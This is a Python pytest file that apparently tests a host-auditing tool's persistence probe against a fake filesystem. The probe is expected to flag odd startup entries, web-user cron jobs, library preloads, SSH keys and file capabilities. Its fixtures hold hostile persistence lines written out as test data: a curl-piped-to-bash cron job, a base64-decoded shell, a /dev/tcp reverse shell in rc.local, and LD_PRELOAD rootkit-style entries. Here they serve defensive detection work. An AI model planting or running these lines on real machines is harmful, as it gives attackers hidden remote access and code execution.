import subprocess

import pytest

from auditor.model.fact import Why
from auditor.probe import persistence
from tests.unit.probe.asking import parse, why
from tests.unit.probe.test_texts import HELPERS, SHELLS

MACHINE = {
    "etc/systemd/system/a.service": "[Service]\nEnvironment=A=/tmp/x\nExecStart=-/tmp/miner\n",
    "etc/systemd/system/b.service": "[Service]\nExecStart=/usr/bin/x --dir /tmp/x\n",
    "etc/systemd/system/c.service": "[Service]\nExecStartPre=/home/budi/run\n",
    "etc/systemd/system/d.service.d/x.conf": "[Service]\nEnvironment=LD_PRELOAD=/x.so\n",
    "etc/systemd/user/e.service": "[Service]\nExecStart=/home/budi/run\n",
    "etc/crontab": "SHELL=/bin/sh\n# * * * * * root /tmp/x\n"
    "17 * * * * root cd / && run-parts /etc/cron.hourly\n"
    "@reboot root /dev/shm/.x\n"
    "* * * * * root find /tmp/ -delete >/tmp/log\n"
    "* * * * * root curl -s http://x/y | bash\n"
    "5 * * * * www-data php /var/www/x.php\n",
    "var/spool/cron/crontabs/www-data": "* * * * * php artisan schedule:run\n"
    "@daily echo L2Jpbi9zaA== | base64 -d | sh\n",
    "var/spool/cron/crontabs/budi": "* * * * * /usr/bin/true\n",
    "etc/rc.local": "#!/bin/sh\nbash -i >& /dev/tcp/10.0.0.1/4444 0>&1\nexit 0\n",
    "etc/profile.d/x.sh": "export LD_PRELOAD=/usr/lib/x.so\nunset LD_PRELOAD\nTMPDIR=/tmp/x\n"
    ". /tmp/evil\n",
    "etc/ld.so.preload": "# nothing\n/usr/lib/libhide.so\n",
    "root/.ssh/authorized_keys": "# a comment\nssh-ed25519 AAAAC3Nza budi@kantor\n"
    'from="10.0.0.0/8, x",command="echo \\"ssh-rsa AAAA\\"",no-pty ssh-rsa '
    + "A" * 4
    + "B" * 368
    + " ani\n",
}


def judged(base, shell, awk):
    text = persistence.SECTION.text.replace("awk -v", f"{awk} -v")
    folders = ("etc", "var/spool", "root", "home", "usr/lib", "usr/local/lib", "run")
    for folder in folders:
        text = text.replace(f" /{folder}/", f" {base}/{folder}/")
    text = text.replace("</etc/passwd", f"<{base}/etc/passwd").replace("getcap", "false")
    done = subprocess.run(
        [*shell, "-c", f"{HELPERS}s() {{\n{text}\n}}\ns\n"],
        capture_output=True,
        text=True,
        check=True,
    )
    return done.stdout.replace(str(base), "").replace("false\n", "getcap\n")


@pytest.fixture(scope="module")
def machine(tmp_path_factory):
    base = tmp_path_factory.mktemp("machine")
    for name, text in MACHINE.items():
        path = base / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text)
    (base / "etc/passwd").write_text(f"root:x:0:0:r:{base}/root:/bin/sh\nno:x:9:9::/:/bin/sh\n")
    return base


@pytest.mark.parametrize("awk", ["mawk", "gawk", "busybox awk"])
@pytest.mark.parametrize("shell", SHELLS, ids=" ".join)
def test_lines_are_judged_where_they_stand(machine, shell, awk):
    said = judged(machine, shell, awk)
    found = parse(persistence, said)

    assert "budi" not in said.replace("crontabs/budi", "")
    assert {(row["sign"], row["place"]) for row in found["odd_starts"]} == {
        ("temp-path", "/etc/systemd/system/a.service:3"),
        ("home-path", "/etc/systemd/system/c.service:2"),
        ("temp-path", "/etc/crontab:4"),
        ("download-run", "/etc/crontab:6"),
        ("decode-run", "/var/spool/cron/crontabs/www-data:2"),
        ("reverse-shell", "/etc/rc.local:2"),
        ("temp-path", "/etc/profile.d/x.sh:4"),
    }
    assert [(row["sign"], row["place"]) for row in found["web_jobs"]] == [
        ("www-data", "/etc/crontab:7"),
        ("www-data", "/var/spool/cron/crontabs/www-data:2"),
    ]
    assert {(row["sign"], row["place"]) for row in found["preloads"]} == {
        ("variable", "/etc/systemd/system/d.service.d/x.conf:2"),
        ("variable", "/etc/profile.d/x.sh:1"),
        ("file", "/etc/ld.so.preload:2"),
    }
    assert found["keys"] == [
        {
            "place": "/root/.ssh/authorized_keys:2",
            "account": "root",
            "type": "ssh-ed25519",
            "bits": 256,
            "options": [],
            "restricted": False,
        },
        {
            "place": "/root/.ssh/authorized_keys:3",
            "account": "root",
            "type": "ssh-rsa",
            "bits": 2048,
            "options": ["from", "command", "no-pty"],
            "restricted": True,
        },
    ]


@pytest.mark.parametrize(
    ("kind", "length", "bits"),
    [
        ("ssh-rsa", 371, 1024),
        ("ssh-rsa", 372, 2048),
        ("ssh-rsa", 540, 3072),
        ("ssh-rsa", 716, 4096),
        ("ssh-dss", 580, 1024),
        ("ecdsa-sha2-nistp384", 180, 384),
        ("sk-ssh-ed25519@openssh.com", 90, 256),
        ("ecdsa-sha2-nistp521", 230, 521),
    ],
)
def test_how_long_a_key_is(kind, length, bits):
    line = f"key\troot\t{kind}\t{length}\t\t/root/.ssh/authorized_keys:1\n"

    assert parse(persistence, line)["keys"][0]["bits"] == bits


def test_capabilities_of_programs():
    found = parse(
        persistence,
        "/usr/bin/ping cap_net_raw=ep\n/opt/a b = cap_setuid,cap_net_raw+eip\nnonsense\n",
    )

    assert found["capabilities"] == [
        {"path": "/usr/bin/ping", "capabilities": ["cap_net_raw"]},
        {"path": "/opt/a b", "capabilities": ["cap_setuid", "cap_net_raw"]},
    ]
    without = parse(persistence, "getcap\n")
    assert "capabilities" not in without
    assert without["gap"]["why"] is Why.UNSUPPORTED


def test_of_too_many_rows_those_not_named_are_no_proof():
    assert "odd_starts" not in parse(persistence, "=201\todd\n")
    assert parse(persistence, "=201\todd\nodd\tx\t/y:1\n=200\tweb\n=x\tkey\n")["odd_starts"]


def test_a_failed_section_says_so():
    assert why(persistence, "", rc=2) is Why.UNREADABLE
    assert why(persistence, "", denied=True) is Why.NEEDS_ROOT
